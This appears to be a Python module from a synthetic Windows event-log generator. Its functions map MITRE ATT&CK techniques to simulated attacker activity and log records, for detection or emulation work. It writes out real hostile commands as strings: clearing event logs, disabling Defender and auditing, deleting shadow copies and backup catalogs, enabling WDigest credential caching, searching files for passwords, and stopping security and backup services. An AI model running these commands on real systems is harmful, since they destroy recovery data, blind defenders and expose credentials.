    p, _ = ctx.shell(t, f"runas /netonly /user:{ctx.w.org.netbios}\\{user.sam} cmd.exe", parent=actor,
                     child_image="C:\\Windows\\System32\\runas.exe", keep=True)
    winlog.explicit_logon(ctx.w.sink, ctx.st, t + 1, p, user.account, "localhost", "::1", "0")
    winlog.logon(ctx.w.sink, ctx.st, t + 1.1, actor.user, 9, process=p, outbound=user.account)
    winlog.terminate(ctx.w.sink, ctx.st, t + 3, p)


def token_privesc(ctx: AttackCtx, t: float) -> None:
    """T1068 / T1134: a SYSTEM process started from a user-level implant."""
    fh = ctx.foothold or ctx.camp.new_foothold(ctx.host, t)
    actor = ctx.actor(t)
    p = winlog.spawn(ctx.w.sink, ctx.st, t, actor, "cmd.exe", "cmd.exe", user=SYSTEM, logon_id=0x3E7,
                     integrity="System")
    winlog.terminate(ctx.w.sink, ctx.st, t + 30, p)
    del fh


def creds_in_files(ctx: AttackCtx, t: float) -> None:
    """T1552.001: searching files for passwords."""
    ctx.shell(t, "findstr /si password *.xml *.ini *.txt *.config")
    ctx.camp.stolen_account(domain_admin=False)


# ------------------------------------------------------------------------------------------
# Defence evasion
# ------------------------------------------------------------------------------------------
def clear_logs(ctx: AttackCtx, t: float) -> None:
    """T1070.001: wevtutil cl Security / System (1102, 104)."""
    actor = ctx.actor(t)
    tt = t
    for channel in ("Security", "System"):
        p, tt = ctx.shell(tt, f"wevtutil cl {channel}", parent=actor)
        winlog.log_cleared(ctx.w.sink, ctx.st, tt, p.user, p.logon_id, channel)
        tt += ctx.rng.uniform(1, 10)


def file_deletion(ctx: AttackCtx, t: float) -> None:
    """T1070.004: staged archives and tools deleted."""
    folder = f"C:\\ProgramData\\{ctx.camp.implant_dir}"
    actor = ctx.actor(t)
    p, end = ctx.shell(t, f"del /f /q {folder}\\*.7z {folder}\\*.rar {folder}\\*.save {folder}\\*.dmp", parent=actor)
    for name in ("data.7z", "data.rar", "sam.save", "ls.dmp", "pd64.exe")[:ctx.rng.randint(2, 5)]:
        winlog.file_delete(ctx.w.sink, ctx.st, end - 0.05, p, f"{folder}\\{name}", name.endswith(".exe"))


def timestomp(ctx: AttackCtx, t: float) -> None:
    """T1070.006: the implant's creation time set back to match system files (Sysmon 2)."""
    fh = ctx.foothold or ctx.camp.new_foothold(ctx.host, t)
    actor = ctx.actor(t)
    old = t - ctx.rng.uniform(300, 900) * 86400
    # the attacker's own file: the DLL when a signed binary runs it
    path = ctx.camp.implant_dll(fh).path if ctx.camp.profile.tooling.implant_kind in ("dll", "sideload") \
        else fh.image.path
    ps, _ = ctx.powershell(t, f"(Get-Item '{path}').CreationTime = (Get-Item "
                              f"'C:\\Windows\\System32\\kernel32.dll').CreationTime", parent=actor)
    winlog.file_time_changed(ctx.w.sink, ctx.st, t + 0.6, ps, path, old, fh.since)


def clear_history(ctx: AttackCtx, t: float) -> None:
    """T1070.003: PowerShell history removed."""
    ps, _ = ctx.powershell(t, "Remove-Item (Get-PSReadlineOption).HistorySavePath -Force", encoded=False)
    user = ps.user.name
    winlog.file_delete(ctx.w.sink, ctx.st, t + 0.5, ps, f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\"
                                                        "PowerShell\\PSReadLine\\ConsoleHost_history.txt")


def disable_defender(ctx: AttackCtx, t: float) -> None:
    """T1562.001: Defender real-time protection disabled (4104, Defender 5001)."""
    ctx.powershell(t, "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true",
                   encoded=False)
    winlog.defender_disabled(ctx.w.sink, ctx.st, t + 1.2)


def firewall(ctx: AttackCtx, t: float) -> None:
    """T1562.004: a firewall rule opened."""
    ctx.shell(t, "netsh advfirewall firewall add rule name=\"Remote Desktop - User Mode (TCP-In) \" dir=in "
                 "action=allow protocol=TCP localport=3389")


def disable_logging(ctx: AttackCtx, t: float) -> None:
    """T1562.002 / T1562.006: auditing switched off."""
    ctx.shell(t, "auditpol /set /category:\"Detailed Tracking\" /success:disable /failure:disable")


def hide_files(ctx: AttackCtx, t: float) -> None:
    """T1564.001: staging folder hidden."""
    ctx.shell(t, f"attrib +h +s C:\\ProgramData\\{ctx.camp.implant_dir}")


def obfuscation(ctx: AttackCtx, t: float) -> None:
    """T1027 / T1140: encoded payload decoded with certutil."""
    folder = f"C:\\ProgramData\\{ctx.camp.implant_dir}"
    ctx.shell(t, f"certutil -decode {folder}\\cfg.txt {folder}\\cfg.dll")


def process_injection(ctx: AttackCtx, t: float) -> None:
    """T1055: a remote thread in a legitimate process."""
    actor = ctx.actor(t)
    s = ctx.st.session
    target = s.explorer if s is not None and s.explorer is not None else ctx.st.procs["svc_netsvcs"]
    winlog.process_access(ctx.w.sink, ctx.st, t, actor, target, "0x1fffff",
                          "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|UNKNOWN(00000209A8E6B0F5)")
    winlog.remote_thread(ctx.w.sink, ctx.st, t + 0.1, actor, target)


def registry_modify(ctx: AttackCtx, t: float) -> None:
    """T1112: a configuration value written to the registry."""
    p, _ = ctx.shell(t, "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v "
                        "UseLogonCredential /t REG_DWORD /d 1 /f")
    winlog.reg_set(ctx.w.sink, ctx.st, t + 0.3, p, "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\"
                                                    "WDigest\\UseLogonCredential", "DWORD (0x00000001)")


# ------------------------------------------------------------------------------------------
# Impact (for emulation plans that include it)
# ------------------------------------------------------------------------------------------
def inhibit_recovery(ctx: AttackCtx, t: float) -> None:
    """T1490: shadow copies deleted."""
    ctx.shell(t, "vssadmin.exe delete shadows /all /quiet")
    ctx.shell(t + 3, "wbadmin delete catalog -quiet")


def service_stop(ctx: AttackCtx, t: float) -> None:
    """T1489: services stopped."""
    for i, svc in enumerate(("MSSQLSERVER", "VeeamTransportSvc", "WinDefend")):
        ctx.shell(t + i * 2, f"net stop {svc} /y")


def data_destruction(ctx: AttackCtx, t: float) -> None:
    """T1485 / T1486 / T1561: files overwritten or encrypted."""
    actor = ctx.actor(t)
    tt = t
    for i in range(ctx.rng.randint(20, 60)):
        path = f"D:\\Shares\\Finance\\{ctx.rng.choice(catalog.DOC_WORDS)}_{i}.xlsx.locked"
        winlog.file_create(ctx.w.sink, ctx.st, tt, actor, path)
        tt += ctx.rng.uniform(0.01, 0.3)


EMITTERS: dict[str, Emitter] = {
    "T1566": phish_attachment, "T1566.001": phish_attachment, "T1566.002": phish_link, "T1566.003": phish_link,
    "T1189": phish_link, "T1204": user_execution, "T1204.001": user_execution, "T1204.002": user_execution,
    "T1190": exploit_public_app, "T1133": exploit_public_app, "T1195.002": phish_attachment,
    "T1505.003": webshell, "T1221": template_injection,
    "T1059": cmd_shell, "T1059.003": cmd_shell, "T1059.001": powershell, "T1059.005": vbscript,
    "T1059.007": vbscript, "T1105": ingress_transfer, "T1197": ingress_transfer, "T1036": masquerade,
    "T1036.005": masquerade, "T1036.004": masquerade, "T1036.003": masquerade,
    "T1218": lolbin, "T1218.005": lolbin, "T1218.010": lolbin, "T1218.011": lolbin,
    "T1047": wmi_exec, "T1569.002": service_exec,
    "T1547": run_key, "T1547.001": run_key, "T1053": scheduled_task, "T1053.005": scheduled_task,
    "T1543": new_service, "T1543.003": new_service, "T1574": sideload, "T1574.001": sideload, "T1574.002": sideload,
    "T1546.003": wmi_subscription, "T1136": create_account, "T1136.001": create_account, "T1136.002": create_account,
    "T1098": account_manipulation,
    "T1548": uac_bypass, "T1548.002": uac_bypass, "T1003": lsass_dump, "T1003.001": lsass_dump,
    "T1003.002": sam_dump, "T1003.004": sam_dump, "T1003.005": sam_dump, "T1003.003": ntds_dump,
    "T1003.006": dcsync, "T1558": kerberoast, "T1558.003": kerberoast, "T1110": password_spray,
    "T1110.003": password_spray, "T1110.001": password_spray, "T1078": valid_account, "T1078.002": valid_account,
    "T1068": token_privesc, "T1134": token_privesc, "T1134.001": token_privesc, "T1552": creds_in_files,
    "T1552.001": creds_in_files,
    "T1070": file_deletion, "T1070.001": clear_logs, "T1070.004": file_deletion, "T1070.006": timestomp,
    "T1070.003": clear_history, "T1562": disable_defender, "T1562.001": disable_defender, "T1562.004": firewall,
    "T1562.002": disable_logging, "T1562.006": disable_logging, "T1564": hide_files, "T1564.001": hide_files,
    "T1027": obfuscation, "T1140": obfuscation, "T1055": process_injection, "T1055.001": process_injection,
    "T1112": registry_modify,
    "T1490": inhibit_recovery, "T1489": service_stop, "T1485": data_destruction, "T1486": data_destruction,
    "T1561": data_destruction, "T1561.001": data_destruction,
}

__all__ = ["EMITTERS", "PS", "Foothold", "base64", "https"]
